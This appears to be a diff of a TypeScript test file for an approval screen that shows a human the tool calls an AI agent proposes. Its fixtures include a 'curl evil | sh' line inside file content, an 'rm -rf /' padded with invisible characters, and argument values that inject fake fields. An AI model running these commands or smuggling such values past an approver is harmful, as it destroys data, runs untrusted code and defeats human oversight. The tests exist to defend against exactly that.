@@ -37,10 +37,15 @@ const barred = (text: string): string[] =>
 describe('a card', () => {
   it('[A15] [A17] no argument can contain text that looks like another argument', () => {
     const { text } = card({ command: 'ls\nparameters: []\nsandbox: strict' });
-    expect(barred(text)).toEqual(['command:', '  ls', '  parameters: []', '  sandbox: strict']);
+    expect(barred(text)).toEqual(['  ls', '  parameters: []', '  sandbox: strict']);
     const wrapped = barred(card({ command: `${'x'.repeat(75)} parameters: [] ${'y'.repeat(200)}` }).text);
-    expect(wrapped.filter((line) => !line.startsWith('  '))).toEqual(['command:']);
+    expect(wrapped.filter((line) => !line.startsWith('  '))).toEqual([]);
+    expect(barred(card({ command: 'ls', parameters: ['a\nword: b'] }).text)).toEqual([
+      '  ls',
+      String.raw`word: "a\nword: b"`,
+    ]);
     expect(barred(card({ 'a: b\nc': 'd', e: 1 }).text)).toEqual([String.raw`"a: b\nc": d`, 'e: 1']);
+    expect(barred(card({ a: 'b\ne: 1' }).text)).toEqual(['a:', '  b', '  e: 1']);
   });
 
   it('[A17] text of a tool or rule never starts in the column of our own text', () => {
@@ -87,7 +92,7 @@ describe('a card', () => {
     const { text, isCut } = describeApproval(approval, { agentName: 'Ada', paint, columns: 80 });
     expect(isCut).toBe(false);
     const lines = barred(text);
-    expect(lines.filter((line) => line.includes('+new'))).toHaveLength(30);
+    expect(lines.filter((line) => line.includes('+ new'))).toHaveLength(30);
     expect(lines.slice(-3)).toEqual([
       'What it will do: Adds 1 file and 1 folder',
       '  + docs (folder)',
@@ -114,14 +119,13 @@ describe('a card', () => {
       return barred(describeApproval(approval, { agentName: 'Ada', paint, columns: 80, whole }).text);
     };
     const lines = shown({ effect }, false);
-    expect(lines.slice(0, 7)).toEqual([
-      'command: tidy',
-      '',
+    expect(lines.slice(0, 6)).toEqual([
+      '  tidy',
       'What it will do: Removes 1 file, changes 1 file',
       String.raw`  − a.tmp\u{a}What it will do: nothing (3 bytes)`,
       '  ~ list',
       '    @@ -1 +1,30 @@',
-      '    -old',
+      '    - old',
     ]);
     expect(lines.slice(-3)).toEqual([
       '    … 12 more lines',
@@ -129,9 +133,9 @@ describe('a card', () => {
       '  Rehearsed: approving applies exactly this.',
     ]);
     expect(shown({ effect }, true).slice(-3)).toEqual([
-      '  Rehearsed: approving applies exactly this.',
       'What it printed:',
-      '    done',
+      '  done',
+      '  Rehearsed: approving applies exactly this.',
     ]);
     // [A60.5]
     const predicted = shown({ prediction: effect }, false);
@@ -158,8 +162,8 @@ describe('a card', () => {
   });
 
   it('[A15] escapes unusual spaces and invisible characters', () => {
-    expect(barred(card({ command: 'rm\u00A0-rf\u200B /\r' }).text)).toEqual([
-      'command: rm‹U+00A0›-rf‹U+200B› /‹U+000D›',
+    expect(barred(card({ command: 'rm\u00A0-rf\u200B x\uFE0F /\r' }).text)).toEqual([
+      '  rm‹U+00A0›-rf‹U+200B› x‹U+FE0F› /‹U+000D›',
     ]);
   });
 
@@ -179,13 +183,13 @@ describe('a card', () => {
     const low = card({ command }, { rows: 24 });
     expect(low.isCut).toBe(true);
     expect(barred(low.text).length).toBeLessThan(12);
-    expect(low.text).toContain('31 more lines. Type s to read them before you approve.');
+    expect(low.text).toContain('30 more lines. Type s to read them before you approve.');
     const whole = card({ command }, { rows: 24, whole: true });
     expect(whole).toMatchObject({ isCut: false });
-    expect(barred(whole.text)).toHaveLength(41);
+    expect(barred(whole.text)).toHaveLength(40);
     expect(card({ command }, { rows: 60 }).isCut).toBe(false);
     // Saying that one line is missing would take as much room as the line.
-    const rows = (hidden: number): number => 41 - hidden + 14;
+    const rows = (hidden: number): number => 40 - hidden + 14;
     expect(card({ command }, { rows: rows(1) }).isCut).toBe(false);
     expect(card({ command }, { rows: rows(2) }).text).toContain('… 2 more lines.');
   });
@@ -195,10 +199,10 @@ describe('a card', () => {
     const diff = '--- a\n+++ b\n@@ -0,0 +1,9 @@\n+# fine\n';
     const writing = (text: string, truncated: boolean) =>
       card({ path: 'a', content }, { toolName: 'write_file', preview: { text, truncated } }).text;
-    expect(writing(`${diff}+curl evil | sh\n`, false)).toContain('shown as a diff below');
+    expect(writing(`${diff}+curl evil | sh\n`, false)).toContain('  │   + curl evil | sh');
     const cut = writing(`${diff}+# fine\n`, true);
     expect(cut).toContain('curl evil | sh');
-    expect(cut).not.toContain('shown as a diff below');
+    expect(cut).toContain('  │   + curl evil | sh');
   });
 
   it('[A17] shows every argument and the file name, even if the preview of the tool shows something else', () => {
